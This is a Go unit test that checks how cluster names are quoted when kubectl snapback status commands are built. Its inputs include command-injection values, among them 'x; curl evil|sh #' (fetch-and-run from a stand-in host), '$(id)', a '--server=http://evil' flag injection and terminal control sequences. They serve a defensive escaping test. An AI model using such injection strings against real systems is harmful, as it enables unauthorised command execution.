package inventory

import "testing"

// TestClusterCommand is the command about one cluster, whatever its name is.
func TestClusterCommand(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"kafka":                "kubectl snapback status kafka -n team --all",
		"a b":                  "kubectl snapback status 'a b' -n team --all",
		"x; curl evil|sh #":    "kubectl snapback status 'x; curl evil|sh #' -n team --all",
		"$(id)":                "kubectl snapback status '$(id)' -n team --all",
		"it's":                 `kubectl snapback status 'it'\''s' -n team --all`,
		"--server=http://evil": "kubectl snapback status -n team --all -- --server=http://evil",
		"a\x1b[201~\x15id\r\n": "kubectl snapback status 'a\ufffd[201~\ufffdid\ufffd\ufffd' -n team --all",
	} {
		if got := (ClusterKey{"team", name}).Command("status", "--all"); got != want {
			t.Errorf("%q: %s, want %s", name, got, want)
		}
	}
}
